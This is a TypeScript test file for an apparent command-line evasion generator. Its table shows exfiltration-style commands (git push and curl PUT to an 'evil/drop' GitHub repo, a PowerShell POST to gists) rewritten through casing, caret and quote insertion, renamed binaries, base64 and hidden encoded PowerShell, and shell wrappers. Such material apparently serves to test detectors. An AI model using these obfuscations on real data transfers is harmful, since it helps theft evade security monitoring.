// Every rewrite makes the line that its manual says is the same, and leaves alone what it must not touch.
import { describe, expect, test } from 'vitest';
import { families } from '../../src/evasion/families/index.ts';
import { processOf } from '../../src/evasion/processes.ts';

/** What a rewrite makes of the line of a process. */
function rewrittenBy(id: string, name: string, line: string): string | undefined {
  const [family, rewrite] = id.split('/');
  const all = families.find((one) => one.name === family)!.rewrites;
  return all.find((one) => one.name === rewrite)!.rewritten(processOf(line, { name }))?.line;
}

const push = 'git push https://github.com/evil/drop.git main';
const put = 'curl -s -X PUT -d @b https://api.github.com/repos/evil/drop/contents/a';
const irm = 'powershell.exe -Command "irm https://api.github.com/gists -Method Post -Body $b"';
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

const table: readonly (readonly [
  rewrite: string,
  image: string,
  line: string,
  rewritten: string | undefined,
])[] = [
  ['letter-case/image-upper', 'git.exe', push, 'GIT push https://github.com/evil/drop.git main'],
  ['letter-case/image-mixed', 'curl.exe', 'curl.exe -s x', 'cUrL.eXe -s x'],
  // Linux minds the case of a file.
  ['letter-case/image-upper', 'git', push, undefined],
  [
    'letter-case/powershell-names',
    'powershell.exe',
    irm,
    'powershell.exe -Command "IRM https://api.github.com/gists -METHOD Post -BODY $b"',
  ],
  ['letter-case/powershell-options', 'powershell.exe', irm, irm.replace('-Command', '-COMMAND')],
  ['quoting/quoted-image', 'git.exe', push, `"git"${push.slice(3)}`],
  ['quoting/quoted-words', 'git.exe', push, 'git "push" "https://github.com/evil/drop.git" "main"'],
  ['quoting/quotes-within-words', 'git.exe', push, 'git pu""sh ht""tps://github.com/evil/drop.git ma""in'],
  ['quoting/quoted-letter', 'git.exe', push, 'git p"u"sh h"t"tps://github.com/evil/drop.git m"a"in'],
  ['quoting/caret', 'git.exe', push, 'cmd.exe /c g^it p^ush h^ttps://github.com/evil/drop.git m^ain'],
  ['quoting/caret-in-cmd', 'cmd.exe', 'cmd.exe /c git push', 'cmd.exe /c g^it p^ush'],
  ['quoting/posix-quotes', 'git', 'git push origin main', `sh -c "g''it p''ush o''rigin m''ain"`],
  ['quoting/backslash', 'git', 'git push origin main', `sh -c 'g\\it p\\ush o\\rigin m\\ain'`],
  [
    'quoting/backtick',
    'powershell.exe',
    irm,
    'powershell.exe -Command "ir`m https://api.github.com/gists -Met`hod Post -Body $b"',
  ],
  [
    'quoting/joined-texts',
    'powershell.exe',
    `powershell -c "irm 'https://api.github.com/gists'"`,
    `powershell -c "irm ('https://api'+'.github.com/gists')"`,
  ],
  ['spacing/blanks', 'git.exe', 'git push origin', 'git   push   origin'],
  ['spacing/tabs', 'git.exe', 'git push "a b"', 'git\tpush\t"a b"'],
  // Arguments of Linux have no blanks between them.
  ['spacing/blanks', 'git', 'git push origin', undefined],
  ['spacing/trailing', 'git.exe', 'git push', 'git push   '],
  [
    'spacing/in-powershell',
    'powershell.exe',
    'powershell -c "irm x -Method Post"',
    'powershell -c "  irm \t  x \t  -Method Post "',
  ],
  ['path/full', 'git.exe', 'git push', '"C:\\Program Files\\Git\\cmd\\git.exe" push'],
  ['path/full-without-quotes', 'git.exe', 'git push', 'C:\\Program Files\\Git\\cmd\\git.exe push'],
  ['path/copied-elsewhere', 'gh.exe', 'gh gist create a', 'C:\\Users\\Public\\Music\\gh.exe gist create a'],
  ['path/relative', 'git.exe', 'git push', '..\\bin\\git.exe push'],
  ['path/forward-slashes', 'git.exe', 'git push', '"C:/Users/Public/x/git.exe" push'],
  ['path/extended-length', 'git.exe', 'git push', '\\\\?\\C:\\Users\\Public\\x\\git.exe push'],
  ['path/ending', 'git.exe', 'git push', 'git.exe push'],
  ['path/ending', 'git.exe', 'git.exe push', 'git push'],
  ['path/posix-full', 'git', 'git push', '/usr/local/bin/git push'],
  ['path/posix-relative', 'git', 'git push', './git push'],
  ['image-name/plain', 'git.exe', 'git push', 'updater.exe push'],
  ['image-name/without-ending', 'git.exe', 'git.exe push', 'svc push'],
  ['image-name/as-another-program', 'curl.exe', 'curl -s x', '"C:\\ProgramData\\notepad.exe" -s x'],
  ['image-name/other-ending', 'curl.exe', 'curl -s x', 'C:\\ProgramData\\a.dat -s x'],
  // A program of Go that carries no version information says nothing of itself.
  ['image-name/plain', 'trufflehog.exe', 'trufflehog github', undefined],
  [
    'argument-order/url-first',
    'curl',
    put,
    'curl https://api.github.com/repos/evil/drop/contents/a -s -X PUT -d @b',
  ],
  [
    'argument-order/url-last',
    'curl',
    'curl https://a.example/x -X PUT -d @b',
    'curl -d @b -X PUT https://a.example/x',
  ],
  // Without their quotes the words of a header are not to be told from addresses.
  ['argument-order/url-first', 'curl', 'curl -H Authorization: token x https://a.example/x -s', undefined],
  [
    'argument-order/options-first',
    'gh',
    'gh release upload v1 a.zip -R evil/drop',
    'gh release upload -R evil/drop v1 a.zip',
  ],
  ['argument-order/options-last', 'git', 'git push -u origin main', 'git push origin main -u'],
  ['argument-order/git-folder', 'git', 'git push', 'git -C . push'],
  ['argument-order/git-setting', 'git', 'git push', 'git -c core.quotepath=false --no-pager push'],
  ['argument-order/git-setting-with-blanks', 'git.exe', 'git push', 'git -c "user.name=J Doe" -P push'],
  ['argument-order/git-paths', 'git', 'git push', 'git --git-dir=.git --work-tree . push'],
  [
    'argument-order/powershell-method-first',
    'powershell.exe',
    irm,
    'powershell.exe -Command "irm -Method Post https://api.github.com/gists -Body $b"',
  ],
  [
    'argument-order/powershell-method-last',
    'powershell.exe',
    irm,
    'powershell.exe -Command "irm https://api.github.com/gists -Body $b -Method Post"',
  ],
  ['option-form/short-joined', 'curl', put, put.replace('-X PUT -d @b', '-XPUT -d@b')],
  ['option-form/short-apart', 'gh', 'gh api gists --method=POST', 'gh api gists -X POST'],
  ['option-form/long-apart', 'curl', put, put.replace('-X PUT -d @b', '--request PUT --data @b')],
  [
    'option-form/long-joined',
    'gh',
    'gh api gists -X POST -f a=b',
    'gh api gists --method=POST --raw-field=a=b',
  ],
  // curl takes no equals sign there.
  ['option-form/long-joined', 'curl', put, put],
  ['option-form/short-with-equals', 'gh', 'gh api gists -X POST', 'gh api gists -X=POST'],
  // The same letter is another option behind another word.
  ['option-form/long-apart', 'glab', 'glab snippet create -f a.sql', 'glab snippet create --filename a.sql'],
  ['option-form/grouped', 'curl', put, put.replace('-X PUT', '-sSkX PUT')],
  ['option-form/grouped-and-joined', 'curl', 'curl -T a https://x.example', 'curl -ksTa https://x.example'],
  [
    'option-form/flags-long',
    'git',
    'git push -fu origin main',
    'git push --force --set-upstream origin main',
  ],
  ['option-form/flags-short', 'git', 'git push --force origin', 'git push -f origin'],
  [
    'option-form/abbreviated',
    'wget',
    'wget --post-file=a https://x.example',
    'wget --post-fil=a https://x.example',
  ],
  ['option-form/powershell-alias', 'powershell.exe', irm, irm.replace('irm', 'Invoke-RestMethod')],
  [
    'option-form/powershell-colon',
    'powershell.exe',
    irm,
    'powershell.exe -Command "irm https://api.github.com/gists -Method:Post -Body:$b"',
  ],
  [
    'option-form/powershell-abbreviated',
    'powershell.exe',
    irm,
    'powershell.exe -Command "irm https://api.github.com/gists -Me Post -Bo $b"',
  ],
  ['option-form/powershell-command', 'powershell.exe', irm, irm.replace('-Command', '/comm')],
  ['option-form/powershell-without-command', 'powershell.exe', irm, irm.replace('-Command ', '')],
  ['url-form/host-upper', 'git', push, 'git push https://GITHUB.COM/evil/drop.git main'],
  ['url-form/scheme-upper', 'curl', 'curl https://a.example/x', 'curl HTTPS://a.example/x'],
  // git looks for git-remote-HTTPS.
  ['url-form/scheme-upper', 'git', push, undefined],
  ['url-form/trailing-dot', 'git', push, 'git push https://github.com./evil/drop.git main'],
  ['url-form/port', 'git', push, 'git push https://github.com:443/evil/drop.git main'],
  ['url-form/user', 'git', push, 'git push https://x@github.com/evil/drop.git main'],
  ['url-form/user-and-password', 'git', push, 'git push https://x:y%40z@github.com/evil/drop.git main'],
  ['url-form/dot', 'git', push, 'git push https://github.com/./evil/drop.git main'],
  ['url-form/dot-dot', 'git', push, 'git push https://github.com/contoso/../evil/drop.git main'],
  ['url-form/two-slashes', 'git', push, 'git push https://github.com//evil/drop.git main'],
  ['url-form/percent', 'git', push, 'git push https://github.com/%65vil/drop.git main'],
  // The library of Python sends a path as it stands.
  ['url-form/dot', 'python3', `python3 -c "get('https://a.example/x')"`, undefined],
  ['url-form/git-ending', 'git', push, 'git push https://github.com/evil/drop main'],
  ['url-form/trailing-slash', 'git', push, 'git push https://github.com/evil/drop.git/ main'],
  [
    'url-form/ssh-url',
    'git',
    'git push git@github.com:evil/drop.git',
    'git push ssh://git@github.com/evil/drop.git',
  ],
  [
    'url-form/ssh-port',
    'git',
    'git push git@github.com:evil/drop.git',
    'git push ssh://git@github.com:22/evil/drop.git',
  ],
  [
    'url-form/scp-like',
    'git',
    'git push ssh://git@github.com/evil/drop.git',
    'git push git@github.com:evil/drop.git',
  ],
  [
    'url-form/ssh-host-upper',
    'ssh.exe',
    `ssh.exe git@github.com "git-receive-pack 'evil/drop.git'"`,
    `ssh.exe git@GITHUB.COM "git-receive-pack 'evil/drop.git'"`,
  ],
  ['url-form/fragment', 'curl', 'curl https://a.example/x -s', 'curl https://a.example/x#x -s'],
  [
    'encoding/powershell-script',
    'powershell.exe',
    'powershell -c "irm x"',
    `powershell -EncodedCommand ${utf16('irm x')}`,
  ],
  [
    'encoding/powershell-script-short',
    'powershell.exe',
    'powershell -c "irm x"',
    `powershell /eNc ${utf16('irm x')}`,
  ],
  [
    'encoding/powershell-script-dash',
    'powershell.exe',
    'powershell -c "irm x"',
    `powershell \u2013e ${utf16('irm x')}`,
  ],
  ['encoding/powershell', 'git.exe', 'git push', `powershell.exe -NoP -W Hidden -enc ${utf16('git push')}`],
  ['encoding/base64-sh', 'git', 'git push', 'sh -c "echo Z2l0IHB1c2g= | base64 -d | sh"'],
  [
    'encoding/base64-bash-string',
    'git',
    'git push',
    'bash -c "bash <<< $(base64 --decode <<< Z2l0IHB1c2g=)"',
  ],
  ['wrapper/cmd', 'git.exe', 'git push', 'cmd.exe /c git push'],
  // Without quotes cmd.exe would end the command there.
  ['wrapper/cmd', 'curl.exe', 'curl https://a.example/?a=1&b=2', undefined],
  ['wrapper/cmd-quoted', 'git.exe', 'git push', '"C:\\Windows\\System32\\cmd.exe" /d /s /c "git push"'],
  ['wrapper/cmd-joined', 'git.exe', 'git push', 'cmd /q/cgit push'],
  ['wrapper/start', 'git.exe', 'git push', 'cmd.exe /c start "" /min /b git push'],
  ['wrapper/powershell', 'git.exe', 'git push', 'powershell.exe -NoProfile -Command "& git push"'],
  ['wrapper/conhost', 'git.exe', 'git push', 'conhost.exe --headless git push'],
  ['wrapper/sh', 'git', 'git push', "sh -c 'git push'"],
  ['wrapper/sh-in-a-line', 'git', 'git push', "bash -c 'cd /tmp && git push; true'"],
  ['wrapper/sh-without-quotes', 'git', 'git push', 'sh -c git push'],
  ['wrapper/env', 'git', 'git push', 'env git push'],
  ['wrapper/sudo', 'git', 'git push', 'sudo -n -u root git push'],
  ['wrapper/nohup', 'git', 'git push', 'nohup git push'],
  ['wrapper/timeout', 'git', 'git push', 'timeout -k 5 10m git push'],
  ['environment/set', 'git.exe', 'git push', 'cmd.exe /c "set GIT_TERMINAL_PROMPT=0&& git push"'],
  [
    'environment/in-powershell',
    'powershell.exe',
    'powershell -c "irm x"',
    `powershell -c "$env:TZ='UTC'; irm x"`,
  ],
  ['environment/sh', 'git', 'git push', "sh -c 'TZ=UTC LANG=C git push'"],
  ['environment/export', 'git', 'git push', "bash -c 'export TZ=UTC; git push'"],
  ['environment/env', 'git', 'git push', 'env -u HISTFILE TZ=UTC git push'],
];

test.each(table)('%s: %s: %s', (rewrite, image, line, rewritten) => {
  expect(rewrittenBy(rewrite, image, line)).toBe(rewritten);
});

describe.each(families.map((family) => [family.name, family] as const))('%s', (name, { rewrites }) => {
  test.each(rewrites.map((rewrite) => [rewrite.name, rewrite] as const))('%s', (rewrite, { see }) => {
    // Beside the command, a starter is the same line.
    const shown = `${name}/${rewrite.replace(/-and-command$/, '')}`;
    expect(table.some(([id, , , line]) => id === shown && line !== undefined)).toBe(true);
    for (const page of see.split(' ')) expect(page).toMatch(/^https:\/\/[\w.-]+\/\S+$/);
  });
});
